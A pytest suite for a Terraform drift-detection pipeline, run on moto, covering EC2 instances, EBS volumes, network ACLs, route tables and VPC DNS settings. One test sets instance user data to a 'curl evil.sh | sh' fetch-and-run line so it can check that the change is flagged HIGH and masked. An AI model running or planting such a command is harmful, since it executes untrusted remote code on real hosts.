"""EC2/VPC plugins end to end through the pipeline, on moto.

Given a managed resource (state entries written with the provider's real attribute names, shaped like
../shared/corpus/tfstate), when a console-style boto3 call changes it and the matching CloudTrail
record is replayed, then the finding names exactly the changed attributes with the judged severity;
where the plugin offers a revert, ``pipeline.revert`` restores the declared value and a second replay
is ``in_sync``. One moto account serves the module (EC2 under moto is slow to start); every test makes
its own resources and writes its own state under its own key, so tests do not see each other.

moto differences this file works around rather than depends on: ``run_instances`` ignores
``DisableApiTermination`` (set after launch), ``ModifyInstanceMetadataOptions`` drops the fields a
call leaves out (every call here names them all, as the console does), ``ModifyInstanceAttribute``
wants user data already base64-encoded, ``CreateLaunchTemplateVersion`` ignores ``SourceVersion`` (the
console sends full data; the revert plan restates the declared content), and ``ModifyVolume`` always
starts "now" (the six-hour cooldown is crossed with the plugin's injectable clock).
"""

from __future__ import annotations

import base64
import hashlib
import itertools
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from botocore.stub import Stubber

from chalicelib.models import RemediationStatus, Severity, Status
from chalicelib.pipeline import Pipeline
from chalicelib.remediation import executor
from chalicelib.resources.aws_ebs_encryption_by_default import KEY as EBS_DEFAULT_KEY
from chalicelib.resources.base import EventKind
from chalicelib.resources.registry import default_registry
from chalicelib.triggers.cloudtrail import parse_event, resolve_refs
from tests.conftest import make_pipeline
from tests.fixtures_index import FIXTURES
from tests.harness.events import ACCOUNT, cloudtrail_event
from tests.harness.tfstate import StateBuilder

EC2 = "ec2.amazonaws.com"
REGION = "us-east-1"
BUCKET = "tfstate-ec2-family"
AMI = "ami-12c6146b"
USER_DATA = "#!/bin/bash\nyum install -y nginx\n"
_keys = itertools.count(1)


@dataclass
class Net:
    session: Any
    ec2: Any
    s3: Any
    vpc: str
    subnet: str
    sg_app: str
    sg_admin: str
    igw: str
    nat: str
    pcx: str


@pytest.fixture(scope="module")
def net(aws_module) -> Net:
    """A VPC with a subnet, two groups, an internet gateway, a NAT gateway and a peering connection."""
    ec2, s3 = aws_module.client("ec2"), aws_module.client("s3")
    s3.create_bucket(Bucket=BUCKET)
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    peer = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.1.0/24",
                               AvailabilityZone="us-east-1a")["Subnet"]["SubnetId"]
    sg_app = ec2.create_security_group(GroupName="app", Description="app", VpcId=vpc)["GroupId"]
    sg_admin = ec2.create_security_group(GroupName="admin", Description="admin", VpcId=vpc)["GroupId"]
    igw = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
    ec2.attach_internet_gateway(InternetGatewayId=igw, VpcId=vpc)
    eip = ec2.allocate_address(Domain="vpc")["AllocationId"]
    nat = ec2.create_nat_gateway(SubnetId=subnet, AllocationId=eip)["NatGateway"]["NatGatewayId"]
    pcx = ec2.create_vpc_peering_connection(VpcId=vpc, PeerVpcId=peer)["VpcPeeringConnection"][
        "VpcPeeringConnectionId"]
    return Net(aws_module, ec2, s3, vpc, subnet, sg_app, sg_admin, igw, nat, pcx)


def deploy(net: Net, state: StateBuilder) -> Pipeline:
    """Write ``state`` under a key of its own and return a pipeline that reads only it."""
    prefix = f"stack-{next(_keys)}/"
    state.put(net.s3, BUCKET, prefix + "terraform.tfstate")
    return make_pipeline(net.session, f"s3://{BUCKET}/{prefix}")


def event(name: str, request: dict[str, Any] | None, response: dict[str, Any] | None = None, **kw: Any):
    return cloudtrail_event(name, EC2, request, response if response is not None else
                            {"requestId": "0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0", "_return": True}, **kw)


def tags_event(name: str, resource_id: str, key: str, value: str | None = None) -> dict[str, Any]:
    tag = {"key": key, **({"value": value} if value is not None else {})}
    return event(name, {"resourcesSet": {"items": [{"resourceId": resource_id}]}, "tagSet": {"items": [tag]}})


def arn(kind: str, rid: str) -> str:
    return f"arn:aws:ec2:{REGION}:{ACCOUNT}:{kind}/{rid}"


def assert_reverts(pipeline: Pipeline, finding: Any, replay: dict[str, Any]) -> None:
    """The plan runs, the declared value is back, and the same record replayed is in sync."""
    result = pipeline.revert(finding)
    assert result.status is RemediationStatus.REVERTED, result.reason
    [again] = pipeline.process_event(replay)
    assert again.status is Status.IN_SYNC, again.reason


@pytest.fixture
def entry_deletes(monkeypatch) -> Callable[[bool], None]:
    """Set whether the executor's allow-list names DeleteNetworkAclEntry/DeleteRoute.

    Both remove one entry of an ACL or route table, never the resource; the core allow-list does not
    name them yet (change requested). Tests pin both settings so they hold before and after it does.
    """
    def allow(on: bool) -> None:
        ops = {"DeleteNetworkAclEntry", "DeleteRoute"}
        base = executor.ATTRIBUTE_DELETES - ops
        monkeypatch.setattr(executor, "ATTRIBUTE_DELETES", base | ops if on else base)
    return allow


# --- aws_instance ---------------------------------------------------------------------------------
METADATA = {"HttpTokens": "required", "HttpEndpoint": "enabled", "HttpPutResponseHopLimit": 1,
            "HttpProtocolIpv6": "disabled", "InstanceMetadataTags": "disabled"}


def launch(net: Net, *, protect: bool = True) -> str:
    inst = net.ec2.run_instances(
        ImageId=AMI, MinCount=1, MaxCount=1, InstanceType="t3.micro", SubnetId=net.subnet,
        SecurityGroupIds=[net.sg_app], UserData=USER_DATA, DisableApiStop=protect,
        MetadataOptions={k: METADATA[k] for k in ("HttpTokens", "HttpEndpoint", "HttpPutResponseHopLimit")},
        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": "web"},
                                                                 {"Key": "team", "Value": "platform"}]}],
    )["Instances"][0]
    iid = inst["InstanceId"]
    net.ec2.modify_instance_attribute(InstanceId=iid, DisableApiTermination={"Value": protect})
    return iid


def instance_state(net: Net, iid: str, *, protect: bool = True) -> StateBuilder:
    """An aws_instance entry with the provider's attribute names (cf. corpus tfstate), default_tags team."""
    live = net.ec2.describe_instances(InstanceIds=[iid])["Reservations"][0]["Instances"][0]
    attrs = {
        "ami": AMI, "arn": arn("instance", iid), "associate_public_ip_address": False,
        "availability_zone": live["Placement"]["AvailabilityZone"],
        "capacity_reservation_specification": [{"capacity_reservation_preference": "open",
                                                "capacity_reservation_target": []}],
        "cpu_options": [{"amd_sev_snp": "", "core_count": 1, "threads_per_core": 2}],
        "credit_specification": [{"cpu_credits": "unlimited"}],
        "disable_api_stop": protect, "disable_api_termination": protect, "ebs_block_device": [],
        "ebs_optimized": False, "enclave_options": [{"enabled": False}], "ephemeral_block_device": [],
        "get_password_data": False, "hibernation": False, "host_id": "", "iam_instance_profile": "",
        "id": iid,
        "instance_initiated_shutdown_behavior": "stop", "instance_state": "running",
        "instance_type": "t3.micro",
        "ipv6_address_count": 0, "ipv6_addresses": [], "key_name": "", "launch_template": [],
        "maintenance_options": [{"auto_recovery": "default"}],
        "metadata_options": [{"http_endpoint": "enabled", "http_protocol_ipv6": "disabled",
                              "http_put_response_hop_limit": 1, "http_tokens": "required",
                              "instance_metadata_tags": "disabled"}],
        "monitoring": False, "network_interface": [], "outpost_arn": "", "password_data": "",
        "placement_group": "", "placement_partition_number": 0,
        "primary_network_interface_id": live.get("NetworkInterfaces", [{}])[0].get("NetworkInterfaceId", ""),
        "private_dns": live.get("PrivateDnsName", ""), "private_ip": live.get("PrivateIpAddress", ""),
        "public_dns": "", "public_ip": "", "root_block_device": [], "secondary_private_ips": [],
        "security_groups": [], "source_dest_check": True, "spot_instance_request_id": "",
        "subnet_id": net.subnet,
        "tags": {"Name": "web"}, "tags_all": {"Name": "web", "team": "platform"}, "tenancy": "default",
        "timeouts": None, "user_data": hashlib.sha1(USER_DATA.encode()).hexdigest(), "user_data_base64": None,
        "user_data_replace_on_change": False, "volume_tags": None, "vpc_security_group_ids": [net.sg_app],
    }
    return StateBuilder().add("aws_instance", "web", attrs, module="module.app")


def _imds_v1(net: Net, iid: str) -> None:
    net.ec2.modify_instance_metadata_options(InstanceId=iid, **{**METADATA, "HttpTokens": "optional"})


INSTANCE_GROUPS = {
    # group: (console change, CloudTrail requestParameters, changed paths, severity, rule, revert operations)
    "termination-protection": (
        lambda net, iid: net.ec2.modify_instance_attribute(InstanceId=iid,
                                                           DisableApiTermination={"Value": False}),
        lambda net, iid: ("ModifyInstanceAttribute",
                          {"instanceId": iid, "disableApiTermination": {"value": False}}),
        ["disable_api_termination"], Severity.HIGH, "termination-protection-disabled",
        ["ModifyInstanceAttribute"]),
    "stop-protection": (
        lambda net, iid: net.ec2.modify_instance_attribute(InstanceId=iid, DisableApiStop={"Value": False}),
        lambda net, iid: ("ModifyInstanceAttribute", {"instanceId": iid, "disableApiStop": {"value": False}}),
        ["disable_api_stop"], Severity.MEDIUM, "stop-protection-disabled", ["ModifyInstanceAttribute"]),
    "source-dest-check": (
        lambda net, iid: net.ec2.modify_instance_attribute(InstanceId=iid, SourceDestCheck={"Value": False}),
        lambda net, iid: ("ModifyInstanceAttribute",
                          {"instanceId": iid, "sourceDestCheck": {"value": False}}),
        ["source_dest_check"], Severity.MEDIUM, "source-dest-check-disabled", ["ModifyInstanceAttribute"]),
    "security-groups": (
        lambda net, iid: net.ec2.modify_instance_attribute(InstanceId=iid, Groups=[net.sg_app, net.sg_admin]),
        lambda net, iid: ("ModifyInstanceAttribute", {"instanceId": iid, "groupSet": {
            "items": [{"groupId": net.sg_app}, {"groupId": net.sg_admin}]}}),
        ["vpc_security_group_ids"], Severity.HIGH, "security-group-attached", ["ModifyInstanceAttribute"]),
    "imds-v1": (
        _imds_v1,
        lambda net, iid: ("ModifyInstanceMetadataOptions", {"ModifyInstanceMetadataOptionsRequest": {
            "InstanceId": iid, "HttpTokens": "optional", "HttpEndpoint": "enabled"}}),
        ["metadata_options.http_tokens"], Severity.HIGH, "imdsv1-re-enabled",
        ["ModifyInstanceMetadataOptions"]),
    "tags": (
        lambda net, iid: net.ec2.create_tags(Resources=[iid],
                                             Tags=[{"Key": "team", "Value": "someone-else"}]),
        lambda net, iid: ("CreateTags", {"resourcesSet": {"items": [{"resourceId": iid}]},
                                         "tagSet": {"items": [{"key": "team", "value": "someone-else"}]}}),
        ["tags.team"], Severity.LOW, "tags-changed", ["CreateTags"]),
}


@pytest.mark.parametrize("group", list(INSTANCE_GROUPS))
def test_instance_attribute_group_drifts_and_reverts(net, group):
    change, record, paths, severity, rule, operations = INSTANCE_GROUPS[group]
    iid = launch(net)
    pipeline = deploy(net, instance_state(net, iid))
    change(net, iid)
    replay = event(*record(net, iid))
    [finding] = pipeline.process_event(replay)
    assert finding.status is Status.DRIFT, finding.reason
    assert [c.path for c in finding.changes] == paths
    assert finding.severity is severity
    assert finding.changes[0].rule == rule
    assert finding.resource.address == "module.app.aws_instance.web"
    assert [c.operation for c in finding.plan] == operations
    assert_reverts(pipeline, finding, replay)


def test_stop_start_attributes_drift_but_are_not_reverted(net):
    """Instance type, user data and EBS optimization need a stop/start: reported (user data HIGH,
    masked), never in a plan."""
    iid = launch(net, protect=False)
    pipeline = deploy(net, instance_state(net, iid, protect=False))
    net.ec2.stop_instances(InstanceIds=[iid])
    net.ec2.modify_instance_attribute(InstanceId=iid, InstanceType={"Value": "t3.2xlarge"})
    evil = base64.b64encode(b"curl evil.sh | sh\n")
    net.ec2.modify_instance_attribute(InstanceId=iid, UserData={"Value": evil})
    net.ec2.modify_instance_attribute(InstanceId=iid, EbsOptimized={"Value": True})
    net.ec2.start_instances(InstanceIds=[iid])
    [finding] = pipeline.process_event(event("ModifyInstanceAttribute",
                                             {"instanceId": iid, "userData": "<sensitiveDataRemoved>"}))
    assert finding.status is Status.DRIFT
    by_path = {c.path: c for c in finding.changes}
    assert set(by_path) == {"instance_type", "user_data", "ebs_optimized"}
    assert (by_path["ebs_optimized"].declared, by_path["ebs_optimized"].live) == (False, True)
    assert by_path["instance_type"].to_dict() == {"path": "instance_type", "declared": "t3.micro",
                                                   "live": "t3.2xlarge"}
    assert by_path["user_data"].severity is Severity.HIGH and by_path["user_data"].sensitive
    assert by_path["user_data"].to_dict()["live"] == "********"
    assert all("needs a stop/start" in c.rule and "not reverted" in c.rule for c in finding.changes)
    assert finding.plan == ()
    result = pipeline.revert(finding)
    assert result.status is RemediationStatus.REFUSED


def test_instance_terminated_is_deleted_and_run_instances_is_unmanaged(net):
    iid = launch(net, protect=False)
    pipeline = deploy(net, instance_state(net, iid, protect=False))
    stranger = net.ec2.run_instances(ImageId=AMI, MinCount=1, MaxCount=1, SubnetId=net.subnet)["Instances"][0]
    [created] = pipeline.process_event(event(
        "RunInstances", {"instancesSet": {"items": [{"imageId": AMI}]}},
        {"instancesSet": {"items": [{"instanceId": stranger["InstanceId"]}]}}))
    assert created.status is Status.UNMANAGED and created.resource.id == stranger["InstanceId"]
    instances = {"instancesSet": {"items": [{"instanceId": iid}]}}
    [stopped] = pipeline.process_event(event("StopInstances", instances))
    assert stopped.status is Status.SKIPPED
    net.ec2.terminate_instances(InstanceIds=[iid])
    [deleted] = pipeline.process_event(event("TerminateInstances", instances))
    assert deleted.status is Status.DELETED
    assert deleted.resource.address == "module.app.aws_instance.web"


def test_default_tags_and_untouched_metadata_fields_are_not_drift(net):
    """``team`` comes from provider default_tags (tags_all only); a tag event that sets it is in sync."""
    iid = launch(net)
    pipeline = deploy(net, instance_state(net, iid))
    [finding] = pipeline.process_event(tags_event("CreateTags", iid, "team", "platform"))
    assert finding.status is Status.IN_SYNC, finding.reason


# --- aws_ebs_volume -------------------------------------------------------------------------------
def volume(net: Net) -> tuple[str, StateBuilder]:
    vid = net.ec2.create_volume(AvailabilityZone="us-east-1a", Size=100, VolumeType="gp3", Iops=3000,
                                Throughput=125, TagSpecifications=[{"ResourceType": "volume", "Tags": [
                                    {"Key": "Name", "Value": "data"}]}])["VolumeId"]
    attrs = {"arn": arn("volume", vid), "availability_zone": "us-east-1a", "encrypted": False,
             "final_snapshot": False, "id": vid, "iops": 3000, "kms_key_id": "",
             "multi_attach_enabled": False,
             "outpost_arn": "", "size": 100, "snapshot_id": "", "tags": {"Name": "data"},
             "tags_all": {"Name": "data"}, "throughput": 125, "timeouts": None, "type": "gp3"}
    return vid, StateBuilder().add("aws_ebs_volume", "data", attrs)


def modify_volume_event(vid: str, **target: Any) -> dict[str, Any]:
    return event("ModifyVolume", {"ModifyVolumeRequest": {"VolumeId": vid, **target}},
                 {"ModifyVolumeResponse": {"volumeModification": {"volumeId": vid,
                                                                  "modificationState": "modifying"}}})


def test_volume_type_change_is_reverted_only_after_the_ebs_cooldown(net, monkeypatch):
    vid, state = volume(net)
    pipeline = deploy(net, state)
    net.ec2.modify_volume(VolumeId=vid, VolumeType="io2", Iops=6000)
    replay = modify_volume_event(vid, VolumeType="io2", Iops=6000)
    [now] = pipeline.process_event(replay)
    assert now.status is Status.DRIFT
    by_path = {c.path: c for c in now.changes}
    assert {"type", "iops"} <= set(by_path)
    assert by_path["type"].to_dict() == {"path": "type", "declared": "gp3", "live": "io2"}
    assert now.severity is Severity.MEDIUM and "one modification per 6 hours" in by_path["type"].rule
    assert now.plan == (), "AWS would reject a second modification within six hours"

    plugin = default_registry().get("aws_ebs_volume")
    monkeypatch.setattr(plugin, "clock", lambda: datetime.now(UTC) + timedelta(hours=7))
    [later] = pipeline.process_event(replay)
    assert [c.operation for c in later.plan] == ["ModifyVolume"]
    assert later.plan[0].params == {"VolumeId": vid, "VolumeType": "gp3", "Iops": 3000, "Throughput": 125}
    assert_reverts(pipeline, later, replay)


def test_grown_volume_is_reported_and_never_shrunk(net, monkeypatch):
    vid, state = volume(net)
    pipeline = deploy(net, state)
    plugin = default_registry().get("aws_ebs_volume")
    monkeypatch.setattr(plugin, "clock", lambda: datetime.now(UTC) + timedelta(hours=7))
    net.ec2.modify_volume(VolumeId=vid, Size=250)
    [finding] = pipeline.process_event(modify_volume_event(vid, Size=250))
    assert [c.to_dict() for c in finding.changes] == [{"path": "size", "declared": 100, "live": 250}]
    assert "cannot shrink" in finding.changes[0].rule
    assert finding.plan == ()


# --- aws_network_acl / aws_network_acl_rule ------------------------------------------------------
def acl_block(rule_no: int, action: str, protocol: str, cidr: str, lo: int = 0,
              hi: int = 0) -> dict[str, Any]:
    return {"action": action, "cidr_block": cidr, "from_port": lo, "icmp_code": 0, "icmp_type": 0,
            "ipv6_cidr_block": "", "protocol": protocol, "rule_no": rule_no, "to_port": hi}


def network_acl(net: Net) -> tuple[str, StateBuilder]:
    """Inline: ingress #100 https from 10/8 and egress #100 all traffic; an aws_network_acl_rule:
    ingress #110 ssh from 10.1/16."""
    acl = net.ec2.create_network_acl(VpcId=net.vpc)["NetworkAcl"]["NetworkAclId"]
    add = net.ec2.create_network_acl_entry
    add(NetworkAclId=acl, RuleNumber=100, Protocol="6", RuleAction="allow", Egress=False,
        CidrBlock="10.0.0.0/8", PortRange={"From": 443, "To": 443})
    add(NetworkAclId=acl, RuleNumber=110, Protocol="6", RuleAction="allow", Egress=False,
        CidrBlock="10.1.0.0/16", PortRange={"From": 22, "To": 22})
    add(NetworkAclId=acl, RuleNumber=100, Protocol="-1", RuleAction="allow", Egress=True,
        CidrBlock="0.0.0.0/0")
    state = StateBuilder()
    state.add("aws_network_acl", "private", {
        "arn": arn("network-acl", acl), "egress": [acl_block(100, "allow", "-1", "0.0.0.0/0")], "id": acl,
        "ingress": [acl_block(100, "allow", "6", "10.0.0.0/8", 443, 443)], "owner_id": ACCOUNT,
        "subnet_ids": [],
        "tags": {"Name": "private"}, "tags_all": {"Name": "private"}, "vpc_id": net.vpc})
    state.add("aws_network_acl_rule", "ssh", {
        "cidr_block": "10.1.0.0/16", "egress": False, "from_port": 22, "icmp_code": None, "icmp_type": None,
        "id": "nacl-2931542738", "ipv6_cidr_block": None, "network_acl_id": acl, "protocol": "tcp",
        "rule_action": "allow", "rule_number": 110, "to_port": 22})
    net.ec2.create_tags(Resources=[acl], Tags=[{"Key": "Name", "Value": "private"}])
    return acl, state


def acl_entry_event(name: str, acl: str, rule_no: int, *, egress: bool = False,
                    **entry: Any) -> dict[str, Any]:
    return event(name, {"networkAclId": acl, "ruleNumber": rule_no, "egress": egress, **entry})


ALLOW_ALL_IN = {"ruleAction": "allow", "aclProtocol": "-1", "cidrBlock": "0.0.0.0/0", "icmpTypeCode": {},
                "portRange": {"from": -1, "to": -1}}


@pytest.mark.parametrize("deletes_allowed", [False, True], ids=["executor-today", "entry-deletes-allowed"])
def test_allow_all_inbound_entry_is_critical(net, entry_deletes, deletes_allowed):
    entry_deletes(deletes_allowed)
    acl, state = network_acl(net)
    pipeline = deploy(net, state)
    net.ec2.create_network_acl_entry(NetworkAclId=acl, RuleNumber=50, Protocol="-1", RuleAction="allow",
                                     Egress=False, CidrBlock="0.0.0.0/0")
    replay = acl_entry_event("CreateNetworkAclEntry", acl, 50, **ALLOW_ALL_IN)
    [finding] = pipeline.process_event(replay)
    assert finding.status is Status.DRIFT and finding.severity is Severity.CRITICAL
    assert [c.to_dict() for c in finding.changes] == [{
        "path": "ingress", "declared": None,
        "live": {"rule_no": 50, "action": "allow", "protocol": "-1", "cidr_block": "0.0.0.0/0"}}]
    assert finding.changes[0].rule.startswith("nacl-allow-all-inbound-from-world")
    if not deletes_allowed:
        assert "executor does not allow DeleteNetworkAclEntry" in finding.changes[0].rule
        assert finding.plan == ()
        assert pipeline.revert(finding).status is RemediationStatus.REFUSED
        return
    assert [(c.operation, c.params) for c in finding.plan] == [
        ("DeleteNetworkAclEntry", {"NetworkAclId": acl, "RuleNumber": 50, "Egress": False})]
    assert_reverts(pipeline, finding, replay)


def test_entry_replaced_to_open_ssh_to_the_world_is_high_and_reverted(net):
    acl, state = network_acl(net)
    pipeline = deploy(net, state)
    net.ec2.replace_network_acl_entry(NetworkAclId=acl, RuleNumber=110, Protocol="6", RuleAction="allow",
                                      Egress=False, CidrBlock="0.0.0.0/0", PortRange={"From": 22, "To": 22})
    replay = acl_entry_event("ReplaceNetworkAclEntry", acl, 110, ruleAction="allow", aclProtocol="6",
                             cidrBlock="0.0.0.0/0", portRange={"from": 22, "to": 22}, icmpTypeCode={})
    [finding] = pipeline.process_event(replay)
    assert finding.severity is Severity.HIGH
    [change] = finding.changes
    assert change.rule == "nacl-inbound-open-to-world"
    assert change.declared["cidr_block"] == "10.1.0.0/16" and change.live["cidr_block"] == "0.0.0.0/0"
    assert [c.operation for c in finding.plan] == ["ReplaceNetworkAclEntry"]
    assert_reverts(pipeline, finding, replay)


def test_entry_declared_by_a_rule_resource_deleted_is_restored(net):
    acl, state = network_acl(net)
    pipeline = deploy(net, state)
    net.ec2.delete_network_acl_entry(NetworkAclId=acl, RuleNumber=110, Egress=False)
    replay = acl_entry_event("DeleteNetworkAclEntry", acl, 110)
    [finding] = pipeline.process_event(replay)
    assert [c.to_dict() for c in finding.changes] == [{
        "path": "ingress", "live": None,
        "declared": {"rule_no": 110, "action": "allow", "protocol": "6", "cidr_block": "10.1.0.0/16",
                     "from_port": 22, "to_port": 22}}]
    assert finding.severity is Severity.MEDIUM
    assert [c.operation for c in finding.plan] == ["CreateNetworkAclEntry"]
    assert_reverts(pipeline, finding, replay)


def test_acl_catch_all_entries_and_rule_resources_are_not_drift(net):
    """AWS adds rule 32767 (deny all) to every ACL; moto models it on a VPC's default ACL."""
    filters = [{"Name": "vpc-id", "Values": [net.vpc]}, {"Name": "default", "Values": ["true"]}]
    default = net.ec2.describe_network_acls(Filters=filters)["NetworkAcls"][0]
    assert {e["RuleNumber"] for e in default["Entries"]} == {100, 32767}
    acl_id = default["NetworkAclId"]
    state = StateBuilder().add("aws_network_acl", "default", {
        "arn": arn("network-acl", acl_id), "id": acl_id, "owner_id": ACCOUNT, "subnet_ids": [], "tags": {},
        "tags_all": {}, "vpc_id": net.vpc, "egress": [acl_block(100, "allow", "-1", "0.0.0.0/0")],
        "ingress": [acl_block(100, "allow", "-1", "0.0.0.0/0")]})
    [default_finding] = deploy(net, state).process_event(acl_entry_event("CreateNetworkAclEntry", acl_id, 100,
                                                                         **ALLOW_ALL_IN))
    assert default_finding.status is Status.IN_SYNC, default_finding.reason
    acl, state = network_acl(net)
    [rule_finding] = deploy(net, state).process_event(
        acl_entry_event("CreateNetworkAclEntry", acl, 110, ruleAction="allow", aclProtocol="6",
                        cidrBlock="10.1.0.0/16", portRange={"from": 22, "to": 22}, icmpTypeCode={}))
    assert rule_finding.status is Status.IN_SYNC, rule_finding.reason


# --- aws_route_table / aws_route ------------------------------------------------------------------
def _route_block(cidr: str, **target: str) -> dict[str, Any]:
    block = {"carrier_gateway_id": "", "cidr_block": cidr, "core_network_arn": "",
             "destination_prefix_list_id": "",
             "egress_only_gateway_id": "", "gateway_id": "", "ipv6_cidr_block": "", "local_gateway_id": "",
             "nat_gateway_id": "", "network_interface_id": "", "transit_gateway_id": "",
             "vpc_endpoint_id": "",
             "vpc_peering_connection_id": ""}
    return {**block, **target}


def route_table(net: Net, *, owner: bool = True) -> tuple[str, StateBuilder]:
    """Private table: 0.0.0.0/0 -> NAT (inline), 10.20.0.0/16 -> peering (an aws_route)."""
    rt = net.ec2.create_route_table(VpcId=net.vpc)["RouteTable"]["RouteTableId"]
    net.ec2.create_route(RouteTableId=rt, DestinationCidrBlock="0.0.0.0/0", NatGatewayId=net.nat)
    net.ec2.create_route(RouteTableId=rt, DestinationCidrBlock="10.20.0.0/16", VpcPeeringConnectionId=net.pcx)
    state = StateBuilder()
    if owner:  # after a refresh the table's `route` lists the aws_route's route too
        state.add("aws_route_table", "private", {
            "arn": arn("route-table", rt), "id": rt, "owner_id": ACCOUNT, "propagating_vgws": [],
            "route": [_route_block("0.0.0.0/0", nat_gateway_id=net.nat),
                      _route_block("10.20.0.0/16", vpc_peering_connection_id=net.pcx)],
            "tags": None, "tags_all": {}, "timeouts": None, "vpc_id": net.vpc})
    state.add("aws_route", "peer", {
        "carrier_gateway_id": "", "core_network_arn": "", "destination_cidr_block": "10.20.0.0/16",
        "destination_ipv6_cidr_block": "", "destination_prefix_list_id": "", "egress_only_gateway_id": "",
        "gateway_id": "", "id": f"r-{rt}1080289494", "instance_id": "", "instance_owner_id": "",
        "local_gateway_id": "", "nat_gateway_id": "", "network_interface_id": "", "origin": "CreateRoute",
        "route_table_id": rt, "state": "active", "timeouts": None, "transit_gateway_id": "",
        "vpc_endpoint_id": "",
        "vpc_peering_connection_id": net.pcx})
    return rt, state


def route_event(name: str, rt: str, cidr: str, **target: str) -> dict[str, Any]:
    return event(name, {"routeTableId": rt, "destinationCidrBlock": cidr, **target})


def test_default_route_moved_to_the_internet_gateway_is_high_and_reverted(net):
    rt, state = route_table(net)
    pipeline = deploy(net, state)
    net.ec2.replace_route(RouteTableId=rt, DestinationCidrBlock="0.0.0.0/0", GatewayId=net.igw)
    replay = route_event("ReplaceRoute", rt, "0.0.0.0/0", gatewayId=net.igw)
    [finding] = pipeline.process_event(replay)
    assert finding.severity is Severity.HIGH
    assert [c.to_dict() for c in finding.changes] == [{
        "path": "route", "declared": {"cidr_block": "0.0.0.0/0", "nat_gateway_id": net.nat},
        "live": {"cidr_block": "0.0.0.0/0", "gateway_id": net.igw}}]
    assert finding.changes[0].rule == "route-target-changed"
    assert [(c.operation, c.params) for c in finding.plan] == [
        ("ReplaceRoute", {"RouteTableId": rt, "DestinationCidrBlock": "0.0.0.0/0", "NatGatewayId": net.nat})]
    assert_reverts(pipeline, finding, replay)


@pytest.mark.parametrize("deletes_allowed", [False, True], ids=["executor-today", "entry-deletes-allowed"])
def test_route_added_by_hand_is_drift(net, entry_deletes, deletes_allowed):
    entry_deletes(deletes_allowed)
    rt, state = route_table(net)
    pipeline = deploy(net, state)
    net.ec2.create_route(RouteTableId=rt, DestinationCidrBlock="172.16.0.0/12", GatewayId=net.igw)
    replay = route_event("CreateRoute", rt, "172.16.0.0/12", gatewayId=net.igw)
    [finding] = pipeline.process_event(replay)
    assert [c.to_dict() for c in finding.changes] == [{
        "path": "route", "declared": None, "live": {"cidr_block": "172.16.0.0/12", "gateway_id": net.igw}}]
    assert finding.severity is Severity.MEDIUM and finding.changes[0].rule.startswith("route-added")
    if not deletes_allowed:
        assert finding.plan == () and "executor does not allow DeleteRoute" in finding.changes[0].rule
        return
    assert [(c.operation, c.params) for c in finding.plan] == [
        ("DeleteRoute", {"RouteTableId": rt, "DestinationCidrBlock": "172.16.0.0/12"})]
    assert_reverts(pipeline, finding, replay)


def test_route_declared_by_aws_route_deleted_is_restored(net):
    rt, state = route_table(net)
    pipeline = deploy(net, state)
    net.ec2.delete_route(RouteTableId=rt, DestinationCidrBlock="10.20.0.0/16")
    replay = route_event("DeleteRoute", rt, "10.20.0.0/16")
    [finding] = pipeline.process_event(replay)
    assert [(c.path, c.live, c.severity, c.rule) for c in finding.changes] == [
        ("route", None, Severity.MEDIUM, "route-removed")]
    assert [(c.operation, c.params) for c in finding.plan] == [
        ("CreateRoute", {"RouteTableId": rt, "DestinationCidrBlock": "10.20.0.0/16",
                         "VpcPeeringConnectionId": net.pcx})]
    assert_reverts(pipeline, finding, replay)


def test_local_route_and_routes_of_an_unmanaged_table_are_not_drift(net):
    """The local route is AWS-managed; with only an aws_route managed, other routes are not ours."""
    rt, state = route_table(net)
    live = net.ec2.describe_route_tables(RouteTableIds=[rt])["RouteTables"][0]["Routes"]
    assert any(r.get("GatewayId") == "local" for r in live)
    [finding] = deploy(net, state).process_event(route_event("CreateRoute", rt, "10.20.0.0/16",
                                                             vpcPeeringConnectionId=net.pcx))
    assert finding.status is Status.IN_SYNC, finding.reason
    rt2, routes_only = route_table(net, owner=False)
    net.ec2.create_route(RouteTableId=rt2, DestinationCidrBlock="172.16.0.0/12", GatewayId=net.igw)
    [other] = deploy(net, routes_only).process_event(route_event("CreateRoute", rt2, "172.16.0.0/12",
                                                                 gatewayId=net.igw))
    assert other.status is Status.IN_SYNC, other.reason


# --- aws_vpc / aws_subnet -------------------------------------------------------------------------
def vpc_state(vpc: str) -> StateBuilder:
    return StateBuilder().add("aws_vpc", "main", {
        "arn": arn("vpc", vpc), "assign_generated_ipv6_cidr_block": False, "cidr_block": "10.30.0.0/16",
        "default_network_acl_id": "", "default_route_table_id": "", "default_security_group_id": "",
        "dhcp_options_id": "", "enable_dns_hostnames": True, "enable_dns_support": True,
        "enable_network_address_usage_metrics": False, "id": vpc, "instance_tenancy": "default",
        "ipv4_ipam_pool_id": None, "ipv4_netmask_length": None, "ipv6_association_id": "",
        "ipv6_cidr_block": "",
        "ipv6_cidr_block_network_border_group": "", "ipv6_ipam_pool_id": "", "ipv6_netmask_length": 0,
        "main_route_table_id": "", "owner_id": ACCOUNT, "tags": None, "tags_all": {}})


@pytest.mark.parametrize(("attrs", "rule"), [
    (["enable_dns_hostnames"], "vpc-dns-hostnames-disabled"),
    (["enable_dns_hostnames", "enable_dns_support"], "vpc-dns-hostnames-disabled"),
], ids=["hostnames-off", "dns-off"])
def test_vpc_dns_switches_drift_and_revert(net, attrs, rule):
    vpc = net.ec2.create_vpc(CidrBlock="10.30.0.0/16")["Vpc"]["VpcId"]
    net.ec2.modify_vpc_attribute(VpcId=vpc, EnableDnsHostnames={"Value": True})
    pipeline = deploy(net, vpc_state(vpc))
    api = {"enable_dns_hostnames": "EnableDnsHostnames", "enable_dns_support": "EnableDnsSupport"}
    for attr in attrs:  # the console turns hostnames off before support
        net.ec2.modify_vpc_attribute(VpcId=vpc, **{api[attr]: {"Value": False}})
    recorded = {"enable_dns_hostnames": "enableDnsHostnames", "enable_dns_support": "enableDnsSupport"}
    replay = event("ModifyVpcAttribute", {"vpcId": vpc, recorded[attrs[-1]]: {"value": False}})
    [finding] = pipeline.process_event(replay)
    assert sorted(c.path for c in finding.changes) == sorted(attrs)
